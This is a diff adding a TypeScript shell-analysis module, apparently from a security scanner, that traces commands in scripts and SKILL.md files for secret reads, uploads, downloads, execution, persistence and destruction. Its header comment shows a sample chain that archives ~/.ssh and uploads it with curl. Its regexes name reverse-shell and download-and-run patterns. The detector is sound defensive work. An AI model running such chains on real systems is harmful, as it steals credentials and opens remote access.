@@ -1,0 +1,390 @@
+/**
+ * Shell → effects. Reads a script (a .sh file, a lifecycle command, a fenced block in SKILL.md) command by
+ * command and records what each one reads, archives, encodes, sends, fetches, writes and runs. Variables and
+ * files link commands: `D=$(mktemp -d); cp -r ~/.ssh $D; tar czf /tmp/b.tgz $D` then, in another block or
+ * file, `curl -F f=@/tmp/b.tgz https://x` is one flow (read ssh-keys → archive → send). Text piped through a
+ * decoder into a shell is decoded and lowered again, marked `decoded`.
+ */
+import { decodeBase64, decodeHex, isMostlyPrintable } from '../analyzers/decode.js';
+import { classifyEnvName, classifyHost, classifySecretPath, classifyWriteLocation, persistenceOf } from './classify.js';
+import type { Effect, Lang, Reach } from './types.js';
+
+export interface ShellOptions {
+  file: string;
+  firstLine: number;
+  reach: Reach;
+  /** Variables are shared within a scope (one SKILL.md, one script file). */
+  scope: string;
+  lang?: Lang;
+  decoded?: boolean;
+  depth?: number;
+}
+
+const MAX_DEPTH = 3;
+const SHELLS = /^(?:ba|z|da|k|fi)?sh$|^(?:bash|sh|zsh|dash|ksh|fish|python[23]?|node|perl|ruby|php|pwsh|powershell(?:\.exe)?|iex|invoke-expression|source|\.|osascript|cmd(?:\.exe)?)$/i;
+const DECODERS = /\bbase64\s+(?:-d|--decode|-D)\b|\bxxd\s+-r|\bopenssl\s+(?:enc\s+)?-(?:d|base64)|\bbase32\s+-d|\brev\b|\btr\s+['"]?[A-Za-z]-|\bgunzip\b|\bzcat\b|\bFromBase64String\b|\bb64decode\b|\batob\b/i;
+
+/** Normalise a path so the same file links across commands and languages. */
+export function fileKey(p: string): string {
+  return `file:${p.replace(/^["']|["']$/g, '').replace(/^\$\{?HOME\}?|^%USERPROFILE%|^\$env:USERPROFILE|^\$env:HOME/i, '~').replace(/\\/g, '/').replace(/\/+$/, '')}`;
+}
+
+interface Cmd {
+  words: string[];
+  raw: string;
+  line: number;
+  /** Index of this command in its pipeline and the pipeline's commands. */
+  pipe: Cmd[];
+  pos: number;
+  redirectOut?: string;
+  redirectIn?: string;
+  append?: boolean;
+  background?: boolean;
+}
+
+function tokenize(s: string): string[] {
+  const out: string[] = [];
+  const re = /"((?:[^"\\]|\\.)*)"|'([^']*)'|\$\((?:[^()]|\([^()]*\))*\)|`[^`]*`|<\([^)]*\)|[^\s"']+/g;
+  let cur = '';
+  let last = -1;
+  for (const m of s.matchAll(re)) {
+    const piece = m[1] ?? m[2] ?? m[0];
+    if (m.index !== undefined && m.index === last && cur) cur += piece;
+    else {
+      if (cur) out.push(cur);
+      cur = piece;
+    }
+    last = (m.index ?? 0) + m[0].length;
+  }
+  if (cur) out.push(cur);
+  return out;
+}
+
+/** Split a script into pipelines of commands with their line numbers (heredocs kept with their command). */
+function parseCommands(text: string, firstLine: number): Cmd[][] {
+  const pipelines: Cmd[][] = [];
+  const lines = text.split(/\r?\n/);
+  let buf = '';
+  let startLine = 0;
+  for (let i = 0; i < lines.length; i++) {
+    let l = lines[i];
+    if (!buf) startLine = i;
+    if (/^\s*#/.test(l) && !buf) continue;
+    l = l.replace(/^\s*(?:\$|>|PS>|PS [A-Z]:\\[^>]*>)\s+/, '');
+    if (/\\\s*$/.test(l)) {
+      buf += l.replace(/\\\s*$/, ' ');
+      continue;
+    }
+    buf += l;
+    for (const seg of splitTop(buf, /;|&&|\|\||\n/)) {
+      const bg = /&\s*$/.test(seg.trim()) && !/&&\s*$/.test(seg.trim());
+      const parts = splitTop(seg.replace(/&\s*$/, ''), /\|(?!\|)/);
+      const pipe: Cmd[] = [];
+      parts.forEach((p, pos) => {
+        let raw = p.trim();
+        if (!raw) return;
+        let redirectOut: string | undefined;
+        let redirectIn: string | undefined;
+        let append = false;
+        const ro = /(?:^|\s)(?:\d?>>?|&>)\s*([^\s;&|]+)\s*$/.exec(raw) ?? /(?:^|\s)(\d?>>?)\s*([^\s;&|]+)(?=\s)/.exec(raw);
+        if (ro) {
+          redirectOut = ro[ro.length - 1];
+          append = /»|>>/.test(ro[0]);
+          if (/^&?[12]$|^\/dev\/null$/.test(redirectOut)) redirectOut = undefined;
+        }
+        const ri = /(?:^|\s)<\s*([^\s<(;&|]+)/.exec(raw);
+        if (ri) redirectIn = ri[1];
+        raw = raw.replace(/\s\d?>>?\s*\S+/g, ' ').replace(/\s&>\s*\S+/g, ' ');
+        const words = tokenize(raw);
+        if (!words.length) return;
+        pipe.push({ words, raw: p.trim(), line: firstLine + startLine, pipe, pos, redirectOut, redirectIn, append, background: bg && pos === parts.length - 1 });
+      });
+      if (pipe.length) pipelines.push(pipe);
+    }
+    buf = '';
+  }
+  return pipelines;
+}
+
+/** Split at a separator outside quotes, $( ), backticks and braces. */
+function splitTop(s: string, sep: RegExp): string[] {
+  const out: string[] = [];
+  let depth = 0;
+  let q: string | undefined;
+  let cur = '';
+  for (let i = 0; i < s.length; i++) {
+    const c = s[i];
+    if (q) {
+      cur += c;
+      if (c === q && s[i - 1] !== '\\') q = undefined;
+      continue;
+    }
+    if (c === '"' || c === "'" || c === '`') {
+      q = c;
+      cur += c;
+      continue;
+    }
+    if (c === '(' || c === '{') depth++;
+    if (c === ')' || c === '}') depth = Math.max(0, depth - 1);
+    if (depth === 0) {
+      const two = s.slice(i, i + 2);
+      const m = sep.exec(two);
+      if (m && m.index === 0 && !(m[0] === '|' && two === '||') && !(two[0] === '&' && two !== '&&' && sep.source.includes('&&') && false)) {
+        out.push(cur);
+        cur = '';
+        i += m[0].length - 1;
+        continue;
+      }
+    }
+    cur += c;
+  }
+  out.push(cur);
+  return out;
+}
+
+const URL_IN = /\b(?:https?|ftp|wss?):\/\/[^\s'"`<>)|;]+|\b(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?(?:\/[^\s'"`<>)|;]*)?/i;
+
+export function lowerShell(text: string, opts: ShellOptions): Effect[] {
+  const effects: Effect[] = [];
+  const depth = opts.depth ?? 0;
+  if (depth > MAX_DEPTH || text.length > 400_000) return effects;
+  const lang = opts.lang ?? 'shell';
+  const vars = new Map<string, string[]>(); // variable → linker keys it carries
+  const varKey = (name: string) => `var:${name}@${opts.scope}`;
+  const base = (c: Cmd) => ({ file: opts.file, line: c.line, lang, reach: opts.reach, evidence: c.raw.length > 160 ? `${c.raw.slice(0, 159)}…` : c.raw, ...(opts.decoded ? { decoded: true } : {}) });
+
+  /** Keys a word carries: files it names, variables it expands, secrets it reads. */
+  const keysOf = (w: string): string[] => {
+    const keys: string[] = [];
+    for (const m of w.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g)) {
+      keys.push(varKey(m[1]), ...(vars.get(m[1]) ?? []));
+      const env = classifyEnvName(m[1]);
+      if (env && env !== 'host-identity') keys.push(`secret:${env}`);
+    }
+    const p = w.replace(/^@/, '').replace(/^[\w-]+=@?/, '');
+    if (/[/~]|\.\w+$/.test(p) && !/:\/\//.test(p)) keys.push(fileKey(p));
+    return keys;
+  };
+
+  for (const pipe of parseCommands(text, opts.firstLine)) {
+    let upstreamFetched: Effect | undefined;
+    let upstreamDecoded = false;
+    let upstreamKeys: string[] = [];
+    for (const c of pipe) {
+      const b = base(c);
+      const [cmd0, ...rest] = c.words;
+      let w0 = cmd0.replace(/^.*[\\/]/, '');
+      let args = rest;
+      // Wrappers that run their arguments: sudo, nohup, env, time, xargs, setsid, exec, nice.
+      let hidden = c.background === true;
+      while (/^(?:sudo|doas|nohup|env|time|nice|setsid|exec|command|builtin|xargs|timeout|stdbuf|disown)$/.test(w0) && args.length) {
+        if (w0 === 'sudo' || w0 === 'doas') effects.push({ ...b, kind: 'escalate' });
+        if (w0 === 'nohup' || w0 === 'setsid' || w0 === 'disown') hidden = true;
+        let k = 0;
+        while (k < args.length && (/^-/.test(args[k]) || /^\w+=/.test(args[k]) || (w0 === 'timeout' && /^\d/.test(args[k])))) k++;
+        w0 = (args[k] ?? '').replace(/^.*[\\/]/, '');
+        args = args.slice(k + 1);
+      }
+      const all = [w0, ...args].join(' ');
+      // Assignments: NAME=value / NAME=$(cmd) carry what the value carries.
+      const assign = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(cmd0);
+      if (assign && c.words.length === 1) {
+        const v = assign[2];
+        const inner = /^\$\((.*)\)$/s.exec(v) ?? /^`(.*)`$/s.exec(v);
+        const keys = keysOf(v);
+        if (inner) {
+          const sub = lowerShell(inner[1], { ...opts, firstLine: c.line, depth: depth + 1 });
+          for (const e of sub) {
+            effects.push(e);
+            keys.push(...(e.produces ?? []));
+          }
+          const sec = classifySecretPath(inner[1]);
+          if (sec) keys.push(`secret:${sec}`);
+        }
+        const sec = classifySecretPath(v);
+        if (sec) {
+          effects.push({ ...b, kind: 'read', secret: sec, path: v, produces: [varKey(assign[1])] });
+        }
+        // A literal blob assigned and later decoded: remember its decoding.
+        vars.set(assign[1], keys);
+        if (/^[A-Za-z0-9+/=]{24,}$/.test(v.replace(/^["']|["']$/g, ''))) vars.set(`${assign[1]}#blob`, [v.replace(/^["']|["']$/g, '')]);
+        continue;
+      }
+      const inKeys = [...upstreamKeys, ...(c.redirectIn ? keysOf(c.redirectIn) : [])];
+
+      // Reads of secret paths and environment by any command (cat, cp, tar, zip, grep, find, base64 …).
+      const readKeys: string[] = [];
+      for (const a of [...args, ...(c.redirectIn ? [c.redirectIn] : [])]) {
+        const sec = classifySecretPath(a.replace(/^@/, '').replace(/^[\w-]+=@/, ''));
+        if (sec && !/^(?:echo|printf)$/.test(w0)) {
+          const e: Effect = { ...b, kind: 'read', secret: sec, path: a, produces: [`secret:${sec}`, ...keysOf(a)] };
+          effects.push(e);
+          readKeys.push(...(e.produces ?? []));
+        }
+        for (const m of a.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g)) {
+          const env = classifyEnvName(m[1]);
+          if (env && env !== 'host-identity') {
+            effects.push({ ...b, kind: 'read', secret: env, path: `$${m[1]}`, produces: [`secret:${env}`, `env:${m[1]}@${opts.scope}`] });
+            readKeys.push(`secret:${env}`);
+          }
+        }
+      }
+      if (/^(?:env|printenv|set|export)$/.test(w0) && args.filter((a) => !/^-/.test(a)).length === 0) {
+        effects.push({ ...b, kind: 'read', secret: 'env-secrets', path: w0, produces: ['secret:env-secrets', `env:*@${opts.scope}`] });
+        readKeys.push('secret:env-secrets');
+      }
+      const consumed = [...new Set([...inKeys, ...readKeys, ...args.flatMap(keysOf)])];
+      const outKeys = c.redirectOut ? keysOf(c.redirectOut) : [];
+
+      // Archive / copy / encode: what goes in comes out in the destination.
+      if (/^(?:tar|zip|7z|7za|rar|gzip|bzip2|xz|cp|rsync|ditto|mv|cat|base64|xxd|openssl|gpg|split|find|grep|rg|jq|sqlite3|tee)$/.test(w0)) {
+        const dests: string[] = [];
+        if (w0 === 'tar') {
+          const fi = args.findIndex((a) => /^-?[a-zA-Z]*f$/.test(a) || a === '--file');
+          if (fi !== -1 && args[fi + 1]) dests.push(args[fi + 1]);
+          const fa = args.find((a) => a.startsWith('--file='));
+          if (fa) dests.push(fa.slice(7));
+        } else if (/^(?:zip|7z|7za|rar)$/.test(w0)) {
+          const pos = args.filter((a) => !/^-/.test(a) && !/^a$/.test(a));
+          if (pos[0]) dests.push(pos[0]);
+        } else if (/^(?:cp|rsync|ditto|mv)$/.test(w0)) {
+          const pos = args.filter((a) => !/^-/.test(a));
+          if (pos.length >= 2 && !/^[\w.-]+@[\w.-]+:|^[\w.-]+::|^rsync:\/\//.test(pos[pos.length - 1])) dests.push(pos[pos.length - 1]);
+        } else if (w0 === 'tee') dests.push(...args.filter((a) => !/^-/.test(a)));
+        if (c.redirectOut) dests.push(c.redirectOut);
+        const produces = dests.flatMap(keysOf);
+        if (c.pos < pipe.length - 1) produces.push(`pipe:${c.line}:${c.pos}@${opts.scope}`);
+        if (consumed.length || readKeys.length) {
+          const kind = /^(?:tar|zip|7z|7za|rar|gzip|bzip2|xz|split)$/.test(w0) ? 'archive' : /^(?:base64|xxd|openssl|gpg)$/.test(w0) ? 'encode' : 'collect';
+          const sec = effects.filter((e) => e.kind === 'read' && e.line === c.line && e.secret).map((e) => e.secret!);
+          effects.push({ ...b, kind, ...(dests[0] ? { path: dests[0] } : {}), ...(sec.length ? { carries: [...new Set(sec)] } : {}), consumes: consumed, produces: [...produces, ...readKeys] });
+          upstreamKeys = [...produces, ...readKeys, ...consumed];
+        } else upstreamKeys = produces;
+      }
+
+      // Network: curl / wget / nc / scp / rsync / ssh / dig / mail / git push / Invoke-WebRequest.
+      const urlArg = args.find((a) => URL_IN.test(a) && !/^-/.test(a)) ?? args.find((a) => URL_IN.test(a));
+      const url = urlArg ? URL_IN.exec(urlArg)?.[0] : undefined;
+      if (/^(?:curl|wget|http|https|xh|aria2c|invoke-webrequest|iwr|invoke-restmethod|irm|fetch|lwp-request|certutil|bitsadmin|start-bitstransfer)$/i.test(w0) || (/^(?:python3?|node|powershell|pwsh)$/i.test(w0) && url)) {
+        const target = url ?? args.find((a) => !/^-/.test(a) && /\./.test(a));
+        const { host, hostClass } = target ? classifyHost(target) : { host: '', hostClass: 'configured' as const };
+        const uploads = args.some((a, i) => /^(?:-d|--data(?:-\w+)?|-F|--form|-T|--upload-file|--post-file|--post-data|--body-file|-InFile|-Body|--json)$/i.test(a) || /^--data(?:-\w+)?=|^--post-(?:data|file)=|^-d\S|^-F\S/.test(a) || (/^-X$|^--request$|^-Method$/i.test(a) && /^(?:POST|PUT|PATCH)$/i.test(args[i + 1] ?? ''))) || inKeys.length > 0;
+        if (uploads) {
+          const carries = [...new Set(consumed.filter((k) => k.startsWith('secret:')).map((k) => k.slice(7)))] as Effect['carries'];
+          effects.push({ ...b, kind: 'send', host, hostClass, channel: 'http', ...(url ? { url } : {}), ...(carries?.length ? { carries } : {}), consumes: consumed });
+        }
+        const out = args.find((a, i) => /^(?:-o|--output|-O|-OutFile|--output-document)$/i.test(args[i - 1] ?? '') ) ?? c.redirectOut;
+        const fetch: Effect = { ...b, kind: 'fetch', host, hostClass, ...(url ? { url } : {}), produces: [...(out ? keysOf(out) : []), `pipe:${c.line}:${c.pos}@${opts.scope}`, ...outKeys] };
+        if (!uploads || out || c.pos < pipe.length - 1) effects.push(fetch);
+        upstreamFetched = fetch;
+        upstreamKeys = fetch.produces ?? [];
+        continue;
+      }
+      if (/^(?:scp|sftp|rsync|rclone|ftp|lftp|smbclient|aws|gsutil|az)$/.test(w0)) {
+        const remote = args.find((a) => /^[\w.-]+@[\w.-]+:|^[\w.-]+:[~/]|^rsync:\/\/|^s3:\/\/|^gs:\/\/|:\/\//.test(a));
+        const isUpload = remote && args.indexOf(remote) === args.length - 1;
+        if (remote && (isUpload || /^(?:aws|gsutil|az|rclone)$/.test(w0))) {
+          const host = remote.replace(/^[\w.-]+@/, '').replace(/:.*$/, '').replace(/^(?:rsync|s3|gs):\/\//, '');
+          const hc = /^(?:s3|gs):\/\//.test(remote) ? classifyHost(host).hostClass === 'unknown' ? 'unknown' : classifyHost(host).hostClass : classifyHost(host).hostClass;
+          effects.push({ ...b, kind: 'send', host, hostClass: hc, channel: 'scp', consumes: consumed });
+        }
+      }
+      if (/^(?:nc|ncat|netcat|socat|telnet|openssl)$/.test(w0)) {
+        const host = args.find((a) => /^(?:\d{1,3}\.){3}\d{1,3}$|^[a-z0-9-]+(?:\.[a-z0-9-]+)+$/i.test(a));
+        if (host && (inKeys.length || c.redirectIn || args.includes('-e') || args.includes('-c') || /exec:|\/bin\/(?:ba)?sh/.test(all))) {
+          const { hostClass } = classifyHost(host);
+          effects.push({ ...b, kind: 'send', host, hostClass, channel: 'socket', consumes: consumed });
+          if (/-e|-c|exec:|\/bin\/(?:ba)?sh/.test(all)) effects.push({ ...b, kind: 'exec', origin: 'downloaded', host, hostClass, channel: 'socket', command: c.raw });
+        }
+      }
+      if (/\/dev\/(?:tcp|udp)\/([^/\s]+)\/\d+/.test(c.raw)) {
+        const host = /\/dev\/(?:tcp|udp)\/([^/\s]+)\//.exec(c.raw)![1];
+        const { hostClass } = classifyHost(host);
+        effects.push({ ...b, kind: 'send', host, hostClass, channel: 'socket', consumes: consumed });
+        if (/-i\b|0>&1|<&|\bexec\b/.test(c.raw)) effects.push({ ...b, kind: 'exec', origin: 'downloaded', host, hostClass, channel: 'socket', command: c.raw });
+      }
+      if (/^(?:dig|nslookup|host|drill|resolvectl|ping)$/.test(w0)) {
+        const q = args.find((a) => /\$\(|\$\{?\w|`/.test(a) && /\./.test(a));
+        if (q) {
+          const zone = q.replace(/.*?[)}`]\.?/, '').replace(/^\./, '');
+          const { hostClass } = classifyHost(zone || q);
+          effects.push({ ...b, kind: 'send', host: zone || q, hostClass, channel: 'dns', consumes: [...consumed, ...q.match(/\$\(([^)]*)\)/)?.slice(1).flatMap((s) => { const sub = classifySecretPath(s); return sub ? [`secret:${sub}`] : []; }) ?? []] });
+        }
+      }
+      if (/^(?:mail|mailx|sendmail|mutt|swaks)$/.test(w0)) effects.push({ ...b, kind: 'send', hostClass: 'unknown', channel: 'smtp', consumes: consumed });
+      if (w0 === 'git' && args[0] === 'push') {
+        const remote = args.find((a) => /:\/\/|@[\w.-]+:/.test(a));
+        if (remote) {
+          const { host, hostClass } = classifyHost(remote.replace(/^[\w.-]+@([\w.-]+):.*/, '$1'));
+          effects.push({ ...b, kind: 'send', host, hostClass, channel: 'git', consumes: consumed });
+        }
+      }
+
+      // Decoders: decode literal input now, and re-lower what it says.
+      if (DECODERS.test(all) || /^(?:base64|xxd|rev)$/.test(w0)) {
+        upstreamDecoded = true;
+        const src = pipe.slice(0, c.pos).map((p) => p.raw).join(' | ') + ' ' + c.raw;
+        const blob = /(?:echo|printf)\s+(?:-[neE]+\s+)?["']?([A-Za-z0-9+/=]{16,}|[0-9a-fA-F]{32,})["']?/.exec(src)?.[1] ?? (() => { const v = /\$\{?(\w+)\}?/.exec(src)?.[1]; return v ? vars.get(`${v}#blob`)?.[0] : undefined; })() ?? /<<<\s*["']?([A-Za-z0-9+/=]{16,})/.exec(src)?.[1];
+        if (blob) {
+          let decoded = /^[0-9a-fA-F]+$/.test(blob) && /xxd|hex/.test(all) ? decodeHex(blob) : decodeBase64(blob);
+          if (decoded && /\brev\b/.test(src)) decoded = [...decoded].reverse().join('');
+          if (decoded && isMostlyPrintable(decoded)) {
+            effects.push({ ...b, kind: 'encode', evidence: `decodes: ${decoded.slice(0, 140)}`, produces: [`pipe:${c.line}:${c.pos}@${opts.scope}`] });
+            for (const e of lowerShell(decoded, { ...opts, firstLine: c.line, decoded: true, depth: depth + 1 })) effects.push(e);
+          }
+        }
+      }
+
+      // Running: a shell or interpreter reading a pipe, a downloaded file, a decoded string, `bash -c "$(curl …)"`.
+      const runsStdin = c.pos > 0 && SHELLS.test(w0) && !args.some((a) => /\.\w+$/.test(a) && !/^-/.test(a));
+      const sub = /(?:\$\(|`|<\()\s*(?:curl|wget|iwr|irm|invoke-webrequest)\b[^)`]*/i.exec(c.raw);
+      if (runsStdin && (upstreamFetched || upstreamDecoded)) {
+        const f = upstreamFetched;
+        effects.push({ ...b, kind: 'exec', origin: f ? 'downloaded' : 'decoded', ...(f ? { host: f.host, hostClass: f.hostClass, url: f.url } : {}), command: c.raw === pipe[pipe.length - 1].raw ? pipe.map((p) => p.raw).join(' | ') : c.raw, consumes: f?.produces ?? [] });
+      } else if (sub && (SHELLS.test(w0) || /^(?:eval|source|\.)$/.test(w0) || /iex|invoke-expression/i.test(all))) {
+        const u = URL_IN.exec(sub[0])?.[0];
+        const { host, hostClass } = u ? classifyHost(u) : { host: '', hostClass: 'unknown' as const };
+        effects.push({ ...b, kind: 'fetch', host, hostClass, ...(u ? { url: u } : {}) });
+        effects.push({ ...b, kind: 'exec', origin: 'downloaded', host, hostClass, ...(u ? { url: u } : {}), command: c.raw });
+      } else if (/iex|invoke-expression/i.test(all) && /downloadstring|invoke-webrequest|iwr|irm|invoke-restmethod|net\.webclient/i.test(all)) {
+        const u = URL_IN.exec(all)?.[0];
+        const { host, hostClass } = u ? classifyHost(u) : { host: '', hostClass: 'unknown' as const };
+        effects.push({ ...b, kind: 'exec', origin: 'downloaded', host, hostClass, ...(u ? { url: u } : {}), command: c.raw });
+      } else if (/^(?:powershell|pwsh)(?:\.exe)?$/i.test(w0) && args.some((a) => /^-e(?:nc|ncodedcommand)?$/i.test(a))) {
+        const blob = args[args.findIndex((a) => /^-e(?:nc|ncodedcommand)?$/i.test(a)) + 1];
+        effects.push({ ...b, kind: 'exec', origin: 'decoded', command: c.raw });
+        const d = blob ? Buffer.from(blob, 'base64').toString('utf16le') : '';
+        if (d && isMostlyPrintable(d)) for (const e of lowerShell(d, { ...opts, firstLine: c.line, decoded: true, depth: depth + 1, lang: 'powershell' })) effects.push(e);
+      } else if (/^(?:chmod)$/.test(w0) && args.some((a) => /\+x|7[0-7][0-7]/.test(a))) {
+        const target = args.filter((a) => !/^-|\+x|^\d+$/.test(a)).pop();
+        if (target) effects.push({ ...b, kind: 'write', location: classifyWriteLocation(target), path: target, consumes: keysOf(target), produces: keysOf(target) });
+      } else if (/^(?:\.\/|\/tmp\/|~\/|\$)/.test(cmd0) || (SHELLS.test(w0) && args[0] && !/^-/.test(args[0]) && /[/.]/.test(args[0]))) {
+        // Running a file: linked to whatever produced it (a download, a decoded write).
+        const target = /^(?:\.\/|\/tmp\/|~\/|\$)/.test(cmd0) ? cmd0 : args[0];
+        const keys = keysOf(target);
+        effects.push({ ...b, kind: 'exec', origin: 'computed', path: target, command: c.raw, consumes: keys });
+      }
+      if (hidden) effects.push({ ...b, kind: 'spawn-hidden', command: c.raw });
+
+      // Writes: redirections and persistence locations.
+      if (c.redirectOut) {
+        const loc = classifyWriteLocation(c.redirectOut);
+        effects.push({ ...b, kind: 'write', location: loc, path: c.redirectOut, consumes: consumed, produces: outKeys });
+        const mech = persistenceOf(c.redirectOut);
+        if (mech) effects.push({ ...b, kind: 'persist', mechanism: mech, consumes: consumed });
+      }
+      if (/^(?:crontab|launchctl|systemctl|schtasks|reg|at|update-rc\.d|chkconfig)$/i.test(w0) || /Register-ScheduledTask|New-ItemProperty[^\n]*CurrentVersion\\+Run/i.test(all)) {
+        const mech = persistenceOf(all) ?? (w0 === 'crontab' ? 'cron' : undefined);
+        if (mech && !/^-l$/.test(args[0] ?? '')) effects.push({ ...b, kind: 'persist', mechanism: mech, consumes: consumed });
+      }
+      if (/^(?:rm|shred|srm|del|remove-item)$/i.test(w0)) {
+        if (args.some((a) => /^"?\$0"?$|\$\{?BASH_SOURCE|\$MyInvocation/.test(a))) effects.push({ ...b, kind: 'self-delete' });
+        else if (args.some((a) => /^(?:\/|~|\$HOME|\/\*|~\/\*|\$HOME\/\*|\*|C:\\)$/.test(a.replace(/["']/g, ''))) && args.some((a) => /^-[a-z]*r/i.test(a))) effects.push({ ...b, kind: 'destroy' });
+      }
+      if (/\bhistory\s+-c\b|\bunset\s+HISTFILE\b/.test(c.raw)) effects.push({ ...b, kind: 'instruct', instruct: 'conceal' });
+      if (/^(?:xattr)$/.test(w0) && args.some((a) => /quarantine/.test(a))) effects.push({ ...b, kind: 'instruct', instruct: 'disable-guard' });
+      if (c.pos < pipe.length - 1 && !upstreamKeys.length) upstreamKeys = [...consumed, ...readKeys];
+    }
+  }
+  return effects;
+}
